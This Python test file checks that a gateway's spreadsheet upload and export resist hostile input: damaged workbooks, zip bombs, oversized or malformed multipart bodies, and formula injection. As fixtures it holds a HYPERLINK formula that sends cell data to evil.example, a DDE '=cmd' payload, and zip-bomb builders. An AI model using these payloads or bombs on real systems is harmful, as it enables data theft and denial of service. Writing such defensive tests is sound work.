"""Hostile spreadsheets and multipart bodies: damaged workbooks, zip bombs, oversized uploads,
formula injection in the export, and parsing kept off the event loop.
"""

from __future__ import annotations

import io
import struct
import threading
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import aiohttp
import pytest
from openpyxl import Workbook, load_workbook

from gateway.core.errors import PayloadTooLarge, ValidationFailed
from gateway.http import exports, spreadsheets
from mocks.population import sample_ids
from tests.conftest import CASE, Gateway, batch_body
from tests.integration.api.hostile import (
    SOME_UUID,
    UNREADABLE,
    GatewayFactory,
    problem_of,
    stored_batches,
)

# ---------------------------------------------------------------- spreadsheets


def workbook(rows: list[list[Any]], header: list[str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header or ["姓名", "身份证号"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The same workbook with each part passed through ``change`` (None drops the part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = change(info.filename, source.read(info))
            if content is not None:
                target.writestr(info, content)
    return out.getvalue()


def people(n: int, seed: int = 5) -> list[list[Any]]:
    return [[name, id_number] for name, id_number in sample_ids(n, seed=seed)]


GOOD_BOOK = workbook(people(3))
SHEET = "xl/worksheets/sheet1.xml"


def _cut(name: str, part: bytes, which: str) -> bytes | None:
    if name != which:
        return part
    return part[: len(part) // 2]


DAMAGED = {
    "truncated sheet": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, SHEET)),
    "broken workbook.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/workbook.xml")),
    "broken styles.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/styles.xml")),
    "no sheet part": rezip(GOOD_BOOK, lambda n, p: None if n == SHEET else p),
    "sheet not XML": rezip(GOOD_BOOK, lambda n, p: b"\x00\x01garbage" if n == SHEET else p),
    "not a zip": b"PK\x03\x04 not really",
}


#: read by their cells, whatever the sheet declares: a dimension far beyond them, and a number
#: cell holding text (which is text)
LYING_DIMENSION = rezip(
    GOOD_BOOK,
    lambda n, p: (
        p.replace(b'<dimension ref="A1:B4"', b'<dimension ref="A1:ZZZZZ9"') if n == SHEET else p
    ),
)
TEXT_IN_A_NUMBER_CELL = rezip(
    GOOD_BOOK,
    lambda n, p: (
        p.replace(b"<sheetData>", b'<sheetData><row r="9"><c r="A9"><v>x</v></c></row>')
        if n == SHEET
        else p
    ),
)
#: a list with one stray cell at the grid's far corner: a reader that lays the sheet out densely
#: asks for 550 GB (tafia/calamine#693) and, failing, aborts its process
STRAY_CORNER = rezip(
    GOOD_BOOK,
    lambda n, p: (
        p.replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>',
        )
        if n == SHEET
        else p
    ),
)


def upload_form(data: bytes, **fields: str) -> aiohttp.FormData:
    form = aiohttp.FormData()
    form.add_field("case_number", fields.get("case_number", CASE))
    form.add_field("reason", fields.get("reason", "批量查询"))
    form.add_field("file", data, filename="debtors.xlsx")
    return form


async def upload(api: Gateway, data: bytes) -> aiohttp.ClientResponse:
    return await api.client.post(
        "/v1/batches/upload", data=upload_form(data), headers=await api.headers()
    )


@pytest.mark.parametrize("damage", sorted(DAMAGED))
async def test_a_damaged_workbook_is_422_naming_the_file(api: Gateway, damage: str) -> None:
    response = await upload(api, DAMAGED[damage])
    assert response.status == 422, await response.text()
    assert problem_of(await response.json()) == [(None, "file", UNREADABLE)]
    assert await stored_batches(api) == 0


async def test_a_sheet_is_read_by_its_cells_not_by_what_it_declares(api: Gateway) -> None:
    response = await upload(api, LYING_DIMENSION)
    assert response.status == 202, await response.text()
    assert (await response.json())["subject_count"] == 3
    response = await upload(api, TEXT_IN_A_NUMBER_CELL)
    assert response.status == 422, await response.text()
    (problem,) = (await response.json())["error"]["problems"]
    assert (problem["sheet_row"], problem["field"]) == (9, "id_number")
    assert await stored_batches(api) == 1


async def test_a_sheet_that_kills_its_fast_reader_is_read_the_slow_way(api: Gateway) -> None:
    response = await upload(api, STRAY_CORNER)
    assert response.status == 202, await response.text()
    assert (await response.json())["subject_count"] == 3
    assert await stored_batches(api) == 1


def test_a_sheet_of_overlong_cells_is_refused_before_it_fills_memory() -> None:
    long_name = "张" * 300  # each cell 256 characters once cut: far over what a row may need
    with pytest.raises(ValidationFailed) as caught:
        spreadsheets.read_subjects(workbook([[long_name, "1"]] * 10), max_subjects=3)
    assert caught.value.problems[0]["problem"] == spreadsheets.TOO_MUCH_TEXT


def multipart(part_headers: bytes, content: bytes = b"x") -> bytes:
    return (
        b"--B\r\n" + part_headers + b"\r\n\r\n" + content + b"\r\n"
        b'--B\r\nContent-Disposition: form-data; name="reason"\r\n\r\nr\r\n--B--\r\n'
    )


NAME = b'Content-Disposition: form-data; name="case_number"'


@pytest.mark.parametrize(
    "body",
    [
        multipart(NAME + b"\r\nContent-Type: text/plain; charset=foo"),
        multipart(NAME + b"\r\nContent-Transfer-Encoding: foo"),
        multipart(NAME + b"\r\n\x00\x01garbage without a colon"),
        multipart(b'Content-Disposition: form-data; name="case_number\r\n: \r\n'),
        multipart(NAME + b"\r\nContent-Type: text/plain; charset=utf-8", b"\xff\xfe"),
        b"--B\r\n" + NAME + b"\r\n\r\nnever closed",
    ],
)
async def test_an_unreadable_multipart_body_is_400(api: Gateway, body: bytes) -> None:
    headers = {**await api.headers(), "Content-Type": "multipart/form-data; boundary=B"}
    response = await api.client.post("/v1/batches/upload", data=body, headers=headers)
    assert 400 <= response.status < 500, await response.text()
    assert (await response.json())["error"]["code"]
    assert await stored_batches(api) == 0


def test_reading_stops_after_one_row_more_than_a_batch_may_hold() -> None:
    with pytest.raises(PayloadTooLarge) as caught:
        spreadsheets.read_subjects(workbook(people(50)), max_subjects=3)
    assert caught.value.details == {"field": "subjects", "limit": 3}
    assert len(spreadsheets.read_subjects(workbook(people(3)), max_subjects=3).subjects) == 3


async def test_an_upload_over_the_subject_limit_is_413(gateway_factory: GatewayFactory) -> None:
    gateway = await gateway_factory(dispatch=False, max_subjects=3)
    response = await gateway.client.post(
        "/v1/batches/upload",
        data=upload_form(workbook(people(10))),
        headers=await gateway.headers(),
    )
    assert response.status == 413, await response.text()
    error = (await response.json())["error"]
    assert (error["field"], error["limit"]) == ("subjects", 3)


def zip_bomb(unpacked: int) -> bytes:
    """A valid workbook whose sheet part unpacks to ``unpacked`` bytes (a comment of spaces)."""

    def inflate(name: str, part: bytes) -> bytes:
        if name != SHEET:
            return part
        head, _, tail = part.partition(b"<sheetData>")
        return head + b"<!--" + b" " * unpacked + b"--><sheetData>" + tail

    return rezip(GOOD_BOOK, inflate)


def lying_about_its_size(data: bytes, name: str, declared: int) -> bytes:
    """The same archive, but its headers (local and central) declare part ``name`` to unpack
    to ``declared`` bytes, whatever it really inflates to."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    assert out[local : local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", out, local + 22, declared)  # local header: uncompressed size
    encoded = name.encode()
    entry = out.find(b"PK\x01\x02")
    while entry != -1:
        length = struct.unpack_from("<H", out, entry + 28)[0]
        if out[entry + 46 : entry + 46 + length] == encoded:
            struct.pack_into("<I", out, entry + 24, declared)  # central directory entry
            return bytes(out)
        entry = out.find(b"PK\x01\x02", entry + 4)
    raise AssertionError(f"{name} is not in the central directory")


async def test_a_zip_bomb_is_refused_before_it_is_parsed(
    gateway_factory: GatewayFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[Any] = []
    _record_thread(monkeypatch, spreadsheets, "_read_in_child", opened)
    gateway = await gateway_factory(dispatch=False, max_body_bytes=100_000)
    bomb = zip_bomb(3_000_000)  # 30 times the body limit once unpacked
    assert len(bomb) < 100_000
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(bomb), headers=await gateway.headers()
    )
    assert response.status == 413, await response.text()
    assert (await response.json())["error"]["field"] == "file"
    assert opened == []  # refused from the archive's directory: the workbook was never opened
    # the same content within the limit is read (and opened: the recorder works)
    small = zip_bomb(500_000)
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(small), headers=await gateway.headers()
    )
    assert response.status == 202, await response.text()
    assert len(opened) == 1
    assert await stored_batches(gateway) == 1


async def test_a_zip_bomb_that_lies_about_its_size_is_refused_in_bounded_memory(
    gateway_factory: GatewayFactory,
) -> None:
    limit = 100_000
    gateway = await gateway_factory(dispatch=False, max_body_bytes=limit)
    unpacked_limit = 20 * limit  # what the README allows a workbook to unpack to
    inflates_to = 25 * unpacked_limit
    # The sheet really inflates to 50 MB; the archive's headers say 2,000 bytes, so the sizes
    # the archive declares are within every limit.
    liar = lying_about_its_size(zip_bomb(inflates_to), SHEET, 2_000)
    assert len(liar) < limit
    with zipfile.ZipFile(io.BytesIO(liar)) as archive:
        assert sum(info.file_size for info in archive.infolist()) < unpacked_limit
    headers = await gateway.headers()
    tracemalloc.start()
    try:
        response = await gateway.client.post(
            "/v1/batches/upload", data=upload_form(liar), headers=headers
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status in (413, 422), await response.text()
    assert (await response.json())["error"]
    # Never inflated beyond what the archive declared: far below the bomb's real size, and
    # below what an honest workbook may unpack to.
    assert peak < unpacked_limit, peak
    assert await stored_batches(gateway) == 0


def _record_thread(
    monkeypatch: pytest.MonkeyPatch, module: Any, name: str, seen: list[Any]
) -> None:
    original = getattr(module, name)

    def recorded(*args: Any, **kwargs: Any) -> Any:
        seen.append((threading.get_ident(), args))
        return original(*args, **kwargs)

    monkeypatch.setattr(module, name, recorded)


async def test_workbooks_are_read_and_written_off_the_event_loop(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    loop_thread = threading.get_ident()
    parsed: list[Any] = []
    written: list[Any] = []
    _record_thread(monkeypatch, spreadsheets, "_read_in_child", parsed)
    _record_thread(monkeypatch, exports.ResultsWorkbook, "add", written)
    _record_thread(monkeypatch, exports.ResultsWorkbook, "save", written)
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(GOOD_BOOK), headers=await gateway.headers()
    )
    assert response.status == 202, await response.text()
    batch = await response.json()
    await gateway.wait_finished(batch["id"])
    export = await gateway.client.get(
        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
    )
    assert export.status == 200
    assert [thread for thread, _ in parsed] != [] and loop_thread not in {t for t, _ in parsed}
    # every page added, and the file saved, in a worker thread
    assert len(written) >= 2 and loop_thread not in {t for t, _ in written}
    pages = [args[1] for _, args in written if len(args) == 2 and isinstance(args[1], list)]
    household = [i for p in pages for i in p if i["agency"] == "household"]
    assert household and all(i["data"]["photo"]["data_base64"] for i in household)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


async def test_the_export_holds_no_formula_whatever_the_names(gateway: Gateway) -> None:
    ids = [i for _, i in sample_ids(len(FORMULAS), seed=41)]
    body = batch_body(list(zip(FORMULAS, ids, strict=True)), agencies=["household", "vehicle"])
    batch = await gateway.submit(body)
    await gateway.wait_finished(batch["id"])
    export = await gateway.client.get(
        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
    )
    assert export.status == 200
    data = await export.read()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 4  # 汇总, 户政, 车管所, 批次信息
        assert all(b"<f>" not in archive.read(name) for name in sheets)
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for sheet in book.worksheets[:-1]:  # every sheet but 批次信息 names the people
        names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert set(names) <= set(FORMULAS)  # kept as the text the officer typed
    assert [r[1] for r in book["汇总"].iter_rows(min_row=2, values_only=True)] == FORMULAS


def test_control_characters_from_an_agency_do_not_break_the_export() -> None:
    item = {
        "subject": {"row": 0, "name": "张三", "id_number": "X"},
        "agency": "household",
        "status": "found",
        "data": {"sex": "男\x01", "birth_date": "1970-01-01", "address": "=cmd|'/c calc'!A1"},
        "error": None,
        "attempts": 1,
        "completed_at": "2024-01-01T00:00:00+00:00",
    }
    batch = {"case_number": CASE, "id": SOME_UUID, "status": "done", "agencies": ["household"]}
    data = exports.write_results(batch, [item])
    book = load_workbook(io.BytesIO(data))
    assert all(c.data_type != "f" for s in book for row in s.iter_rows() for c in row)
    (row,) = book["户政"].iter_rows(min_row=2, values_only=True)
    assert row[4] == "男" and row[7] == "=cmd|'/c calc'!A1"  # the control character dropped


# ---------------------------------------------------------------- unit level


def test_damage_found_while_rows_are_read_is_the_same_422() -> None:
    """A cut-off worksheet makes the reader fail: the same 422 as any unreadable file."""
    with pytest.raises(ValidationFailed) as caught:
        spreadsheets.read_subjects(DAMAGED["truncated sheet"])
    assert caught.value.problems[0]["problem"] == UNREADABLE
